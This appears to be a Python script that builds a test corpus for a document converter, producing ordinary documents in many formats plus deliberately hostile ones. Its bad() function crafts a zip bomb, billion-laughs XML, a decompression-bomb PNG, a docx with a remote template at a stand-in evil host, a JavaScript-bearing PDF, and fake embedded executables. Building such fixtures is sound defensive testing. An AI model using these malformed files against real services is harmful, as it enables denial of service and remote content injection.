"""Makes the documents that the tests open, by the programs that people make them with. Runs inside the office profile.

    python3 corpus.py /out
"""

import io
import os
import re
import shutil
import struct
import sys
import zipfile
import zlib

sys.path.insert(0, "/usr/lib/mayfly/converter")

import fitz
import uno
from office import Office
from com.sun.star.awt import Point, Size
from com.sun.star.beans import NamedValue
from PIL import Image, ImageDraw, ImageFont

OUT = sys.argv[1]
FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans-Bold.ttf"
STYLE = "<style>@page{size:148mm 105mm;margin:10mm} body{font-family:'DejaVu Sans';font-size:22pt}</style>"
GLYPHS = {
    "greek": "ΩΨΞ", "cyrillic": "ЖЩЮ", "arabic": "عبر", "hebrew": "שלם", "japanese": "日あカ", "korean": "한국어",
    "chinese": "汉语们", "emoji": "😀🚀🎉", "none": "\U000f1234\U000f1235\U000f1236",
}  # fmt: skip
"""Letters of every kind that the profile has fonts for, and, last, some that no font has."""


def path(name):
    return os.path.join(OUT, name)


def write(name, content):
    with open(path(name), "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode("utf-8"))


def read(name):
    with open(path(name), "rb") as file:
        return file.read()


def page(*words):
    return f"<html><head><meta charset='utf-8'>{STYLE}</head><body>" + "".join(f"<p>{word}</p>" for word in words) + "</body></html>"


def rezip(source, target, change=lambda name, data: data, extra=()):
    with zipfile.ZipFile(path(source)) as old, zipfile.ZipFile(path(target), "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, change(part.filename, old.read(part)))
        for name, data in extra:
            new.writestr(name, data)


def good(office):
    write("writer.html", page("Mayflower harbour", "second line 4711"))
    office.save_as(path("writer.html"), {"docx": "MS Word 2007 XML", "odt": "writer8", "doc": "MS Word 97", "rtf": "Rich Text Format", "pdf": "writer_pdf_Export", "epub": "EPUB"})
    for name, letters in GLYPHS.items():
        write(f"glyphs-{name}.html", page(*letters))
    write("letter.txt", "Mayflower harbour\nsecond line 4711\n")
    write("notes.md", "# Mayflower harbour\n\nsecond *line* 4711\n")
    write("mail.eml", "From: anna@example.org\nTo: bert@example.org\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nSubject: Mayflower harbour\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nsecond line 4711\n")
    write("table.csv", "Item,Count,Price\nMayflower harbour,3,=2*4.5\nsecond line,4711,\n")
    write("table.tsv", "Item\tCount\tPrice\nMayflower harbour\t3\t9\nsecond line\t4711\t\n")
    office.save_as(path("table.csv"), {"xlsx": "Calc MS Excel 2007 XML", "ods": "calc8", "xls": "MS Excel 97"})
    slides(office)
    pictures()
    write("drawing.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="160"><rect width="400" height="160" fill="#fff"/><text x="10" y="60" font-size="32" font-family="DejaVu Sans">Mayflower harbour</text><text x="10" y="120" font-size="32" font-family="DejaVu Sans">second line 4711</text></svg>')


def shipped():
    """A drawing and a text that are in Debian's packages."""
    shutil.copy("/usr/share/icons/hicolor/scalable/apps/libreoffice-writer.svg", path("icon.svg"))
    shutil.copy("/usr/share/common-licenses/GPL-3", path("licence.txt"))


def slides(office):
    """The same words on a slide and in a drawing."""
    for factory, stem, filters in (
        ("simpress", "slides", {"pptx": "Impress MS PowerPoint 2007 XML", "odp": "impress8", "ppt": "MS PowerPoint 97"}),
        ("sdraw", "sketch", {"odg": "draw8"}),
    ):
        office.save_as(f"private:factory/{factory}", filters, path(stem), add_words)


def add_words(model):
    shape = model.createInstance("com.sun.star.drawing.TextShape")
    model.DrawPages.getByIndex(0).add(shape)
    shape.Position, shape.Size = Point(1000, 1000), Size(20000, 6000)
    shape.String = "Mayflower harbour\nsecond line 4711"


def pictures():
    image = Image.new("RGB", (600, 240), "white")
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype(FONT, 44)
    draw.text((20, 30), "Mayflower harbour", "black", font)
    draw.text((20, 130), "second line 4711", "navy", font)
    for name, options in {"picture.png": {"dpi": (96, 96)}, "picture.jpg": {"quality": 95}, "picture.gif": {}, "picture.webp": {"lossless": True}, "picture.bmp": {}}.items():
        image.save(path(name), **options)
    image.save(path("picture.tiff"), save_all=True, append_images=[image.rotate(180)])
    image.save(path("moving.gif"), save_all=True, append_images=[image.rotate(90, expand=False)], duration=100)


def invoice(office):
    """Three pages with a table, headings and a picture."""
    rows = "".join(f"<tr><td>{n}</td><td>Part number {n * 37 % 1000}</td><td>{n * 3} pcs</td><td>{n * 12.5:.2f}</td></tr>" for n in range(1, 41))
    words = "".join(f"<p>{'The quick brown fox jumps over the lazy dog near the river bank. ' * 6}</p>" for _ in range(14))
    write("three-pages.html", f"<html><body><h1>Invoice 4711</h1><table border=1>{rows}</table><h2>Terms</h2>{words}</body></html>")
    office.save_as(path("three-pages.html"), {"docx": "MS Word 2007 XML"})
    os.remove(path("three-pages.html"))


def long_pdf(name, pages, size=(595, 842)):
    """A plain PDF, written by hand so that it may have any number of pages of any size."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>", None, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    kids = []
    for number in range(1, pages + 1):
        content = f"BT /F1 40 Tf 60 {size[1] - 100} Td (Page {number}) Tj ET"
        objects.append(f"<< /Length {len(content)} >>\nstream\n{content}\nendstream")
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size[0]} {size[1]}] /Contents {len(objects)} 0 R /Resources << /Font << /F1 3 0 R >> >> >>")
        kids.append(f"{len(objects)} 0 R")
    objects[1] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {pages} >>"
    write_pdf(name, objects)


def write_pdf(name, objects):
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    start = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(f"{place:010} 00000 n \n".encode() for place in places))
    out.write(f"trailer << /Root 1 0 R /Size {len(objects) + 1} >>\nstartxref\n{start}\n%%EOF\n".encode())
    write(name, out.getvalue())


def protected(office):
    office.save_as(path("writer.html"), {"odt": "writer8"}, path("protected"), Password="open sesame")
    secret = uno.Any("[]com.sun.star.beans.NamedValue", (NamedValue("CryptoType", "Standard"), NamedValue("OOXPassword", "open sesame")))
    office.save_as(path("writer.html"), {"docx": "MS Word 2007 XML"}, path("protected"), EncryptionData=secret)
    with fitz.open(path("writer.pdf")) as document:
        document.save(path("protected.pdf"), encryption=fitz.PDF_ENCRYPT_AES_256, user_pw="open sesame", owner_pw="owner")


def bad():
    write("empty.pdf", b"")
    write("blank.docx", b"\0" * 100)
    write("noise.docx", bytes((n * 7919 >> 3) & 255 for n in range(5000)))
    write("noise.pdf", b"%PDF-1.7\n" + bytes((n * 7919 >> 3) & 255 for n in range(5000)))
    for name in ("writer.docx", "writer.pdf", "table.xlsx", "writer.odt", "picture.png", "writer.doc"):
        stem, extension = os.path.splitext(name)
        write(f"truncated-{stem}{extension}", read(name)[: len(read(name)) * 2 // 3])
    write("cut-off.docx", read("three-pages.docx")[:-300])
    corrupt = bytearray(read("writer.docx"))
    corrupt[len(corrupt) // 2 : len(corrupt) // 2 + 200] = b"\xaa" * 200
    write("corrupt.docx", bytes(corrupt))
    zip_bomb()
    laughs = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij")) + "]>"
    rezip("writer.docx", "laughs.docx", lambda name, data: data if name != "word/document.xml" else re.sub(rb"(<\?xml[^>]*>)", rb"\1" + laughs.encode(), data, count=1).replace(b"harbour", b"&j;"))
    write("laughs.svg", f'<?xml version="1.0"?>{laughs}<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text y="50">&j;</text></svg>')
    write("plain-entities.svg", '<?xml version="1.0"?><!DOCTYPE svg [' + "".join(f'<!ENTITY ns{n} "http://ns.example.org/{n}">' for n in range(12)) + ']><svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text x="10" y="60" font-size="32">Mayflower harbour</text></svg>')
    long_pdf("twenty-thousand.pdf", 20_000)
    long_pdf("poster.pdf", 1, (14400, 14400))
    write("million-rows.csv", "n,square\n" + "".join(f"{n},{n * n}\n" for n in range(1_000_000)))
    write("million-columns.csv", ",".join(map(str, range(1_000_000))) + "\n")
    links = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example.net/template.dotm" TargetMode="External"/>'
    rezip("writer.docx", "remote-template.docx", lambda name, data: data, [("word/_rels/settings.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>')])
    write("external-link.html", page("Mayflower harbour", '<img src="http://tracker.example.net/pixel.png">'))
    rezip("writer.docx", "macros.docm", extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 600)])
    program = b"MZ" + b"\0" * 76 + b"This program cannot be run in DOS mode." + b"\0" * 200
    rezip("writer.docx", "carries-program.docx", extra=[("word/embeddings/oleObject1.bin", program)])
    write("program.docx", program)
    write("really-a.pdf", read("writer.docx"))
    write("polyglot.pdf", read("writer.pdf") + read("table.xlsx"))
    write("script.pdf", read("writer.pdf").replace(b"/Type/Catalog", b"/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>/Type/Catalog"))
    write("archive.zip", b"")
    with zipfile.ZipFile(path("archive.zip"), "w") as archive:
        archive.writestr("readme", "no document")
    huge_picture()


def zip_bomb():
    with zipfile.ZipFile(path("writer.docx")) as old, zipfile.ZipFile(path("bomb.docx"), "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part))
        with new.open("word/media/zeros.bin", "w", force_zip64=True) as stream:
            for _ in range(1100):
                stream.write(b"\0" * (1 << 20))


def huge_picture():
    """A PNG of 30,000 × 30,000 pixels in a few kilobytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * 3751) for _ in range(30_000)) + packer.flush()
    write("huge.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)) + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


os.makedirs(OUT, exist_ok=True)
office = Office()
good(office)
shipped()
invoice(office)
protected(office)
long_pdf("two-hundred.pdf", 200)
bad()
